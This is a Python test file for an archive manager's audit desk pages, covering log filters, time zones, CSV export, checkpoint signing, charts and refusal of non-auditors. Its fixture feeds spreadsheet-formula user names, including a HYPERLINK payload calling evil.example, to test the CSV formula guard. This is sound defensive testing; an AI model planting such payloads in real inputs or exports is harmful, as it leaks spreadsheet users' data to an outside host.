"""The audit desk's pages (Starlette's TestClient) over one archive built
once for the module (:func:`build_desk`, shared with the browser test): a
month of reads with a known usual volume, an outlier day, denials, failed
sign-ins from an address (some with names that look like spreadsheet
formulas), and an event just after midnight in Shanghai that is still the
day before in UTC.

What is checked: each filter of the log against the events themselves,
paging, the zone of the time range, an event's sealed details (auditors
only), the CSV (header, byte-order mark, formula guard, the filter), signing
and downloading a checkpoint, the charts and their figures, and that every
other role is refused on every page, by direct URL too, and that each
refusal is an audit event."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from starlette.testclient import TestClient

from archive_manager import accounts, auditing, clients, filing, reading, searching
from archive_manager.audit.checkpoint import parse_checkpoint
from archive_manager.errors import AccessDenied, ArchiveError
from archive_manager.home import ArchiveHome
from archive_manager.reporting import Origin
from archive_manager.runtime import Runtime
from archive_manager.server.app import create_app
from archive_manager.server.web import ServerSettings
from archive_manager.settings import load_settings
from tests.conftest import make_env

ZONE = "Asia/Shanghai"
TODAY = "2026-12-07"
NOON = datetime(2026, 12, 7, 2, 0, tzinfo=timezone.utc)  # 10:00 in Shanghai
PASSWORDS = {"alice": "alice-pw", "bob": "bob-pw", "carol": "carol-pw", "audrey": "audrey-pw"}
ATTACKER = "203.0.113.9"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)"]
QUERY = "应收账款 逾期"


class Clock:
    """The archive's clock (the events' times), set by the builder."""

    def __init__(self) -> None:
        self.at = NOON

    def __call__(self) -> datetime:
        return self.at


@dataclass
class Desk:
    root: Path
    home: ArchiveHome
    clock: Clock
    doc: str = ""
    minutes: str = ""
    seqs: dict = field(default_factory=dict)

    def events(self) -> list[dict]:
        return [json.loads(line) for line in self.home.audit_log().lines()]

    def last_seq(self) -> int:
        return self.events()[-1]["seq"]


def _write(root: Path, name: str, text: str) -> Path:
    p = root / "src" / name
    p.parent.mkdir(exist_ok=True)
    p.write_text(text, encoding="utf-8")
    return p


def build_desk(root: Path) -> Desk:
    """The archive of the module (see the module notes). Today is 2026-12-07 in Shanghai."""
    (root / "home").mkdir(parents=True)
    clock = Clock()
    home = ArchiveHome(load_settings(root / "home", make_env(root / "home")), runtime=Runtime(now=clock))
    desk = Desk(root, home, clock)
    clock.at = NOON - timedelta(days=40)
    home.init("alice", "alice-pw")
    alice = home.login("alice", "alice-pw")
    accounts.add_user(alice, "bob", ["legal"], "bob-pw")
    accounts.add_user(alice, "carol", ["credit"], "carol-pw")
    accounts.add_user(alice, "audrey", ["audit"], "audrey-pw")
    clients.add_client(alice, "C001", "北京星辰传媒有限公司", {"legal_rep": "张伟"})
    desk.doc = filing.file_document(alice, _write(root, "contract.txt", "广告发布合同 付款条款"), "C001",
                                    "contract", title="星辰年度框架合同").doc_id
    desk.minutes = filing.file_document(alice, _write(root, "minutes.txt", "会议纪要 户外大屏"), "C001",
                                        "minutes").doc_id
    alice.origin = Origin("10.0.0.5", "Firefox")
    bob = home.login("bob", "bob-pw")
    bob.origin = Origin("10.0.0.7", "Chromium")
    carol = home.login("carol", "carol-pw")
    sink = io.BytesIO()
    for days_ago in range(30, 0, -1):  # the usual volume: alice 2 reads a day, bob 1 a day for the last 10 days
        clock.at = NOON - timedelta(days=days_ago)
        for _ in range(2):
            reading.read_document(alice, desk.doc, sink)
        if days_ago <= 10:
            reading.read_document(bob, desk.doc, sink)
    clock.at = datetime(2026, 12, 6, 16, 30, tzinfo=timezone.utc)  # 00:30 on the 7th in Shanghai
    searching.search(carol, "信用", client="C001")
    desk.seqs["midnight"] = desk.last_seq()
    clock.at = NOON
    for _ in range(25):  # bob's outlier day
        reading.read_document(bob, desk.doc, sink)
    for _ in range(5):
        reading.read_document(alice, desk.doc, sink)
    reading.open_content(bob, desk.doc, export=True)
    searching.search(bob, QUERY)
    desk.seqs["search"] = desk.last_seq()
    with pytest.raises(ArchiveError):
        reading.read_document(carol, desk.doc, sink)  # credit holds no contract: not found for her
    with pytest.raises(AccessDenied):
        searching.search(carol, "机密", doc_type="contract")
    desk.seqs["carol_denied"] = desk.last_seq()
    clock.at = NOON + timedelta(minutes=5)
    for name in ["bob", "bob", "bob", *FORMULAS]:
        with pytest.raises(ArchiveError):
            home.login(name, "wrong-pw", origin=Origin(ATTACKER, "curl/8"))
    with pytest.raises(ArchiveError):
        home.login("bob", "wrong-pw", origin=Origin("198.51.100.4"))
    clock.at = NOON + timedelta(minutes=10)
    return desk


@pytest.fixture(scope="module")
def desk(tmp_path_factory) -> Desk:
    return build_desk(tmp_path_factory.mktemp("audit-desk"))


@pytest.fixture(scope="module")
def app(desk):
    return create_app(desk.home, ServerSettings(time_zone=ZONE), failed_delay=0.0)


def signed_in(app, user: str) -> TestClient:
    c = TestClient(app, base_url="https://testserver")
    form = c.get("/signin")
    csrf = form.text.split('name="csrf" value="', 1)[1].split('"', 1)[0]
    r = c.post("/signin", data={"user": user, "passphrase": PASSWORDS[user], "csrf": csrf}, follow_redirects=False)
    assert r.status_code == 303, r.text
    return c


@pytest.fixture(scope="module")
def audrey(app):
    with signed_in(app, "audrey") as c:
        yield c


@pytest.fixture(scope="module")
def bob(app):
    with signed_in(app, "bob") as c:
        yield c


def in_english(client: TestClient, path: str, params: dict | None = None):
    """``path`` asked in English, the client's language put back to Chinese after."""
    r = client.get(path, params={**(params or {}), "lang": "en"})
    client.get("/audit", params={"lang": "zh"})
    return r


def csrf_of(page: str) -> str:
    return page.split('name="csrf" value="', 1)[1].split('"', 1)[0]


def shown_seqs(html: str) -> list[int]:
    """The events the log's table lists, in its order."""
    return [int(s) for s in re.findall(r'<td class="seq"><a href="/audit/events/(\d+)">', html)]


def expected(desk: Desk, keep, limit: int = 50) -> list[int]:
    """The newest ``limit`` events for which ``keep(event)`` holds, newest first."""
    return [e["seq"] for e in reversed(desk.events()) if keep(e)][:limit]


def local_day(stamp: str) -> str:
    from zoneinfo import ZoneInfo
    return datetime.strptime(stamp, "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=timezone.utc) \
        .astimezone(ZoneInfo(ZONE)).date().isoformat()


# --- the log and its filters -------------------------------------------------------------

FILTERS = {
    "user": ({"user": "bob"}, lambda e: e["user"] == "bob"),
    "department": ({"department": "credit"}, lambda e: "credit" in e["departments"]),
    "action group": ({"action": "get"}, lambda e: e["action"] == "get"),
    "read group": ({"action": "read"}, lambda e: e["action"] in ("get", "view")),
    "exact action": ({"action": "export"}, lambda e: e["action"] == "export"),
    "denied group": ({"action": "denied"}, lambda e: e["outcome"] == "denied"),
    "outcome": ({"outcome": "denied"}, lambda e: e["outcome"] == "denied"),
    "client": ({"client": "C001"}, lambda e: e["objects"].get("client") == "C001"),
    "document": (None, None),  # needs the doc id: below
    "address": ({"address": ATTACKER}, lambda e: e["objects"].get("address") == ATTACKER),
    "network": ({"address": "203.0.113.0/24"}, lambda e: str(e["objects"].get("address", "")).startswith("203.0.113.")),
    "since": ({"since": TODAY}, lambda e: local_day(e["time"]) >= TODAY),
    "until": ({"until": "2026-12-06"}, lambda e: local_day(e["time"]) <= "2026-12-06"),
    "combined": ({"user": "bob", "action": "get", "since": TODAY, "until": TODAY},
                 lambda e: e["user"] == "bob" and e["action"] == "get" and local_day(e["time"]) == TODAY),
}


@pytest.mark.parametrize("name", list(FILTERS))
def test_each_filter_lists_the_newest_matching_events(desk, audrey, name):
    query, keep = FILTERS[name]
    if query is None:
        query, keep = {"document": desk.doc}, lambda e: e["objects"].get("doc_id") == desk.doc
    want, total = expected(desk, keep), len([e for e in desk.events() if keep(e)])
    r = audrey.get("/audit", params=query)
    assert r.status_code == 200, r.text
    assert want, name  # the archive has such events
    assert shown_seqs(r.text) == want
    assert f"共 {total:,} 条事件" in r.text


def test_the_time_range_is_read_in_the_servers_zone(desk, audrey):
    midnight = desk.seqs["midnight"]  # 2026-12-06T16:30Z: the 7th in Shanghai, the 6th in UTC
    on_the_7th = shown_seqs(audrey.get("/audit", params={"since": TODAY, "until": TODAY, "user": "carol"}).text)
    on_the_6th = shown_seqs(audrey.get("/audit", params={"since": "2026-12-06", "until": "2026-12-06"}).text)
    assert midnight in on_the_7th and midnight not in on_the_6th
    page = audrey.get(f"/audit/events/{midnight}").text
    assert "2026-12-07 00:30:00" in page and "2026-12-06T16:30:00Z" in page
    assert "Asia/Shanghai（UTC+08:00）" in audrey.get("/audit").text


def test_paging_goes_back_in_time(desk, audrey):
    first = shown_seqs(audrey.get("/audit", params={"action": "get"}).text)  # reading adds no get
    second = shown_seqs(audrey.get("/audit", params={"action": "get", "page": 2}).text)
    assert len(first) == 50 and len(second) == 50
    assert first[0] > first[-1] > second[0] > second[-1]
    assert first[-1] == second[0] + 1
    beyond = audrey.get("/audit", params={"page": 10_000})
    assert beyond.status_code == 200 and "这一页没有事件" in beyond.text and shown_seqs(beyond.text) == []
    filtered = audrey.get("/audit", params={"user": "bob", "page": 2})
    assert 'href="/audit?user=bob&amp;page=1"' in filtered.text  # the filter stays in the page links


@pytest.mark.parametrize("query, words", [
    ({"since": "2026-13-01"}, "日期或时间“2026-13-01”无效"),
    ({"since": "2026-12-07", "until": "2026-12-01"}, "起始（2026-12-07）晚于截止（2026-12-01）"),
    ({"address": "10.0.0.0/99"}, "不是地址或网段"),
    ({"action": "frobnicate"}, "没有“frobnicate”这种操作"),
    ({"outcome": "maybe"}, "没有“maybe”这种结果"),
    ({"user": "x" * 300}, "筛选条件太长或无效"),
])
def test_a_bad_filter_is_explained_on_the_page(audrey, query, words):
    r = audrey.get("/audit", params=query)
    assert r.status_code == 400
    assert words in r.text
    assert 'class="list audit-log"' not in r.text and shown_seqs(r.text) == []
    assert in_english(audrey, "/audit", query).status_code == 400


def test_the_table_shows_each_column_and_links_to_filters(desk, audrey):
    r = audrey.get("/audit", params={"action": "denied", "user": "carol"})
    row = r.text.split(f'href="/audit/events/{desk.seqs["carol_denied"]}"', 1)[1].split("</tr>", 1)[0]
    assert "carol" in row and "信用管理部" in row and "<code>search</code>" in row and "拒绝" in row
    assert "有加密详情" in row  # the refusal's message is sealed
    r = audrey.get("/audit", params={"user": "carol", "action": "get"})
    row = r.text.split("<tbody>", 1)[1].split("</tr>", 1)[0]
    assert "出错" in row and f'href="/audit?document={desk.doc}"' in row and 'href="/audit?client=C001"' in row


# --- one event ------------------------------------------------------------------------------


def test_an_event_shows_its_sealed_details_to_the_auditor(desk, audrey):
    r = audrey.get(f"/audit/events/{desk.seqs['search']}")
    assert r.status_code == 200
    assert QUERY in r.text and "Chromium" in r.text and "10.0.0.7" in r.text
    opened = [e for e in desk.events() if e["action"] == "audit-log" and e["objects"].get("seq") == desk.seqs["search"]]
    assert opened and opened[-1]["user"] == "audrey" and opened[-1]["outcome"] == "ok"
    assert audrey.get("/audit/events/999999").status_code == 404
    assert "审计日志中没有第 999999 条事件" in audrey.get("/audit/events/999999").text


def test_the_log_never_shows_details(desk, audrey):
    r = audrey.get("/audit", params={"action": "search"})
    assert desk.seqs["search"] in shown_seqs(r.text)
    assert QUERY not in r.text


# --- the CSV ------------------------------------------------------------------------------


def read_csv(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel needs for UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_the_csv_holds_the_filtered_log_with_a_header(desk, audrey):
    want = [e for e in desk.events() if e["objects"].get("address") == ATTACKER]
    r = audrey.get("/audit/log.csv", params={"address": ATTACKER})
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("text/csv")
    assert r.headers["content-disposition"].startswith('attachment; filename="audit-log-')
    rows = read_csv(r.content)
    assert rows[0] == ["序号", "时间（Asia/Shanghai）", "时间（UTC）", "用户", "部门", "操作", "结果", "客户编号", "文档编号",
                       "来源地址", "其他对象", "原因", "服务器", "已签名", "有加密详情"]
    assert [int(row[0]) for row in rows[1:]] == [e["seq"] for e in want]
    first = rows[1]
    assert first[1] == "2026-12-07 10:05:00" and first[2] == "2026-12-07T02:05:00Z"
    assert first[5:7] == ["login", "denied"] and first[9] == ATTACKER and first[13] == "否"
    english = read_csv(in_english(audrey, "/audit/log.csv", {"address": ATTACKER}).content)
    assert english[0][:3] == ["seq", "time (Asia/Shanghai)", "time (UTC)"]
    assert QUERY not in audrey.get("/audit/log.csv").content.decode("utf-8-sig")  # no sealed details


def test_the_csv_defuses_formulas(desk, audrey):
    rows = read_csv(audrey.get("/audit/log.csv", params={"address": ATTACKER}).content)
    users = [row[3] for row in rows[1:]]
    for formula in FORMULAS:
        assert "'" + formula in users
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_a_bad_csv_filter_is_an_error_page(audrey):
    r = audrey.get("/audit/log.csv", params={"since": "yesterday"})
    assert r.status_code == 400 and "text/html" in r.headers["content-type"]


# --- verification and checkpoints ----------------------------------------------------------


def test_the_trail_page_shows_the_verification(desk, audrey):
    r = audrey.get("/audit/trail")
    assert r.status_code == 200
    assert "哈希链与签名校验通过" in r.text
    assert "还没有检查点" in r.text or "检查点" in r.text
    assert any(e["action"] == "audit-verify" and e["user"] == "audrey" for e in desk.events())


def test_signing_a_checkpoint_is_recorded_and_downloadable(desk, audrey):
    page = audrey.get("/audit/trail").text
    refused = audrey.post("/audit/checkpoints", data={"csrf": "forged"}, follow_redirects=False)
    assert refused.status_code == 403
    r = audrey.post("/audit/checkpoints", data={"csrf": csrf_of(page)}, follow_redirects=False)
    assert r.status_code == 303
    seq = int(r.headers["location"].rsplit("=", 1)[1])
    signed = [e for e in desk.events() if e["action"] == "audit-checkpoint" and e["outcome"] == "ok"]
    assert signed[-1]["user"] == "audrey" and signed[-1]["objects"]["seq"] == seq
    shown = audrey.get(r.headers["location"])
    assert f"已签署第 {seq} 条事件的检查点" in shown.text and f'href="/audit/checkpoints/{seq}"' in shown.text
    download = audrey.get(f"/audit/checkpoints/{seq}")
    assert download.status_code == 200
    assert download.headers["content-disposition"] == f'attachment; filename="audit-checkpoint-{seq}.json"'
    cp = parse_checkpoint(download.text)
    assert cp["seq"] == seq and cp["signer"] == "audrey"
    report = auditing.verify_trail(desk.home, download.text)
    assert report.ok and [c.ok for c in report.checkpoints] == [True, True]
    assert any(e["action"] == "audit-checkpoint-get" and e["objects"].get("seq") == seq for e in desk.events())
    assert audrey.get("/audit/checkpoints/1").status_code == 404


# --- charts ----------------------------------------------------------------------------------


def test_the_charts_draw_the_libraries_figures(desk, audrey):
    r = audrey.get("/audit/charts")
    assert r.status_code == 200
    assert r.text.count('<svg class="chart"') == 4
    figures = auditing.log_figures(desk.home.login("audrey", "audrey-pw"), zone=ZONE)
    assert figures.until == TODAY and figures.since == "2026-11-08"
    bob_reads = next(v for v in figures.volumes if v.user == "bob" and v.kind == "read")
    assert bob_reads.count == 25 and bob_reads.median == 0 and bob_reads.outlier
    alice_reads = next(v for v in figures.volumes if v.user == "alice" and v.kind == "read")
    assert alice_reads.count == 5 and alice_reads.median == 2 and not alice_reads.outlier
    assert 'class="chart-flag"' in r.text  # bob's bar drawn as an outlier
    assert "超过其前 30 天每日次数中位数的 3 倍" in r.text  # the rule, stated
    assert re.search(r'<tr class="outlier"><td><a href="[^"]*">bob</a></td>', r.text)
    assert ATTACKER in r.text and "chart-s0" in r.text
    failures = {f.name: f for f in figures.signin_failures}
    assert failures[ATTACKER].count == 7 and failures[ATTACKER].others == 5


def test_the_chart_period_is_chosen_and_checked(audrey):
    r = audrey.get("/audit/charts", params={"since": "2026-12-01", "until": "2026-12-07"})
    assert r.status_code == 200 and "<td>2026-12-01</td>" in r.text and "<td>2026-11-30</td>" not in r.text
    assert audrey.get("/audit/charts", params={"since": "2020-01-01", "until": "2026-12-07"}).status_code == 400
    assert audrey.get("/audit/charts", params={"until": "someday"}).status_code == 400


# --- everyone else is refused -------------------------------------------------------------


@pytest.mark.parametrize("path", ["/audit", "/audit?user=bob", "/audit/events/1", "/audit/log.csv",
                                  "/audit/log.csv?since=bad", "/audit/charts", "/audit/trail",
                                  "/audit/checkpoints/1"])
def test_others_are_refused_and_the_refusal_is_recorded(desk, bob, path):
    before = desk.last_seq()
    r = bob.get(path)
    assert r.status_code == 403
    assert "只有审计部" in r.text and "text/html" in r.headers["content-type"]
    refusals = [e for e in desk.events() if e["seq"] > before]
    assert [(e["user"], e["outcome"]) for e in refusals] == [("bob", "denied")]
    assert refusals[0]["action"].startswith("audit-")


def test_a_non_auditor_cannot_sign_a_checkpoint(desk, bob):
    page = bob.get("/account").text
    before = desk.last_seq()
    r = bob.post("/audit/checkpoints", data={"csrf": csrf_of(page)}, follow_redirects=False)
    assert r.status_code == 403 and "只有审计部" in r.text
    after = [e for e in desk.events() if e["seq"] > before]
    assert [(e["action"], e["user"], e["outcome"]) for e in after] == [("audit-checkpoint", "bob", "denied")]


def test_the_nav_offers_the_desk_to_auditors_only(audrey, bob):
    assert 'href="/audit"' in audrey.get("/search").text
    assert 'href="/audit"' not in bob.get("/search").text


def test_signed_out_users_go_to_the_sign_in(app):
    with TestClient(app, base_url="https://testserver") as c:
        for path in ("/audit", "/audit/log.csv", "/audit/events/1", "/audit/charts", "/audit/trail"):
            r = c.get(path, follow_redirects=False)
            assert r.status_code == 303 and r.headers["location"] == "/signin"


def test_an_auditor_lands_on_the_audit_desk_and_sees_no_links_it_may_not_use(app):
    """An auditor holds no class: after sign-in the audit desk, not a search page
    that would refuse them; the top bar offers no search, clients or upload."""
    c = TestClient(app, base_url="https://testserver")
    form = c.get("/signin").text
    r = c.post("/signin", data={"user": "audrey", "passphrase": "audrey-pw", "csrf": csrf_of(form)},
               follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/audit"
    assert c.get("/", follow_redirects=False).headers["location"] == "/audit"
    top = c.get("/audit").text.split("</nav>", 1)[0]
    assert 'href="/audit"' in top
    assert not any(f'href="{p}"' in top for p in ("/search", "/clients", "/upload", "/ledger", "/paperwork"))
    c.close()
